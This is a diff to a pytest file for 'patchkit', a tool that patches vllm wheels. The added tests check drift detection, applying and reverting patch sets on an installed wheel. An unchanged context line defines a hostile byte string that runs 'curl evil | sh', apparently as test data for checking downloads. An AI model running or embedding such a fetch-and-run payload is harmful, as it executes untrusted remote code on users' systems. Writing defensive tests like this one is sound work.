@@ -6,12 +6,27 @@ from __future__ import annotations
 import hashlib
 import json
 import re
+import shlex
 
 import pytest
-from helpers import assert_clean_failure, run_cli
+from helpers import (
+    MODEL_PY,
+    STOCK_FILES,
+    assert_clean_failure,
+    fingerprint,
+    make_patch,
+    patched_spec,
+    run_cli,
+    write_library,
+    write_tree,
+    write_wheel,
+)
 from packaging import tags
+from test_wheel import install
+from test_wheel_sets import _stock_files_fetched
 
 from patchkit import fetch
+from patchkit._target.guard import find_problems
 from patchkit.base.errors import BadInput, FetchError
 from patchkit.wheel import stock
 
@@ -22,6 +37,9 @@ HOSTILE = b"import os; os.system('curl evil | sh')\n"
 STOCK_VERSION = "0.2.0"
 HERE = next(iter(tags.sys_tags()))
 NATIVE = f"vllm-{STOCK_VERSION}-{HERE.interpreter}-{HERE.abi}-{HERE.platform}.whl"
+W_SPEC, W_MODEL, W_CLI = "vllm/config/spec.py", "vllm/models/model.py", "vllm/entrypoints/cli.py"
+MODEL_FIXED = MODEL_PY.replace("SupportsPP):", "SupportsPP):  # fixed\n")
+CLI_FIXED = STOCK_FILES[W_CLI].decode() + "# fixed\n"
 
 
 @pytest.fixture
@@ -125,3 +143,84 @@ def test_a_bad_download_leaves_the_cached_wheel_and_its_record_as_they_were(tmp_
     finally:
         genuine.stop()
         mirror.stop()
+
+
+# --------------------------------------------------------------------------- M3-M5: sets applied on a patched wheel
+
+
+@pytest.fixture
+def wheel_and_a_set(run, tmp_path):
+    """A wheel of the sets spec and model-fix installed, and cli-fix (a file of its own) applied on
+    it by `apply`: (site-packages, library)."""
+    tree = write_tree(tmp_path / "stock", "0.16.0", dict(STOCK_FILES))
+    library = tmp_path / "lib"
+    write_library(library, {"0.16.0": [make_patch(tmp_path, tree, {W_SPEC: patched_spec()})]}, name="spec")
+    write_library(library, {"0.16.0": [make_patch(tmp_path, tree, {W_MODEL: MODEL_FIXED})]}, name="model-fix")
+    write_library(library, {"0.16.0": [make_patch(tmp_path, tree, {W_CLI: CLI_FIXED})]}, name="cli-fix")
+    (library / "library.toml").write_text('order = ["spec", "model-fix", "cli-fix"]\n')
+    sets = ("--set", "spec", "--set", "model-fix")
+    built = run("wheel", write_wheel(tmp_path / "in"), "--out", tmp_path / "out", "--patches", library, *sets)
+    assert built.exit_code == 0, built.output
+    site = install(next((tmp_path / "out").iterdir()), tmp_path / "prefix")
+    _stock_files_fetched(STOCK_FILES)  # what revert puts back, as a fetch leaves them
+    done = run("apply", "--target", site, "--patches", library, "--set", "cli-fix")
+    assert done.exit_code == 0, done.output
+    return site, library
+
+
+def _sets(run, site, library) -> dict[str, dict]:
+    status = run("status", "--target", site, "--patches", library, "--format", "json")
+    return {s["set"]: s for s in json.loads(status.stdout)["sets"]}
+
+
+def _printed_fixes(output: str) -> list[list[str]]:
+    joined = " ".join(output.split())
+    return [shlex.split(c)[1:] for c in re.findall(r"`(patchkit [^`]*)`", joined)]
+
+
+@pytest.mark.parametrize("edit", ["keeps the patch", "undoes the patch"])
+def test_a_wheel_set_s_edit_under_a_set_applied_on_it_is_that_set_s_drift(run, wheel_and_a_set, edit):
+    site, library = wheel_and_a_set
+    (site / W_MODEL).write_text((MODEL_FIXED if edit == "keeps the patch" else MODEL_PY) + "# edited\n")
+
+    sets = _sets(run, site, library)
+
+    assert {name: s["drifted"] for name, s in sets.items()} == {"spec": [], "model-fix": [W_MODEL], "cli-fix": []}
+    applied = run("apply", "--target", site, "--patches", library)
+    said = " ".join(applied.output.split())
+    assert applied.exit_code != 0 and "model-fix: already applied" not in said, said
+    assert f"files edited after patchkit patched them: {W_MODEL}" in said, said
+    for one in ("spec", "model-fix", "cli-fix"):  # each set's status: the fix it prints runs, in order
+        said = run("status", "--target", site, "--patches", library, "--set", one).output
+        fixes = _printed_fixes(said)
+        assert fixes and all("--set" not in fix for fix in fixes), said
+    for fix in fixes:
+        done = run(*fix)
+        assert done.exit_code == 0, (fix, done.output)
+    assert run("status", "--target", site, "--patches", library).exit_code == 0
+    assert find_problems(str(site)) == []
+
+
+def test_a_set_applied_on_a_wheel_is_not_blamed_for_the_wheel_s_edited_file(run, tmp_path, wheel_and_a_set):
+    site, library = wheel_and_a_set
+    assert run("revert", "--target", site, "--patches", library, "--set", "cli-fix").exit_code == 0
+    (site / W_MODEL).write_text(MODEL_PY + "# edited\n")  # no set applied by `apply` now
+
+    sets = _sets(run, site, library)
+
+    assert {name: s["drifted"] for name, s in sets.items()} == {"spec": [], "model-fix": [W_MODEL], "cli-fix": []}
+
+
+def test_revert_of_one_set_of_the_wheel_is_refused_with_another_set_applied_on_it(run, wheel_and_a_set):
+    site, library = wheel_and_a_set
+    before = fingerprint(site)
+
+    done = run("revert", "--target", site, "--patches", library, "--set", "spec")
+
+    assert done.exit_code == 2, done.output
+    said = " ".join(done.output.split())
+    assert "its sets are reverted together" in said, said
+    assert "pip install --force-reinstall --no-deps vllm==0.16.0" in said, said  # the stock wheel
+    assert "`patchkit wheel" in said and "0.16.0 --set model-fix`" in said, said  # the wheel without spec
+    assert fingerprint(site) == before
+    assert find_problems(str(site)) == []
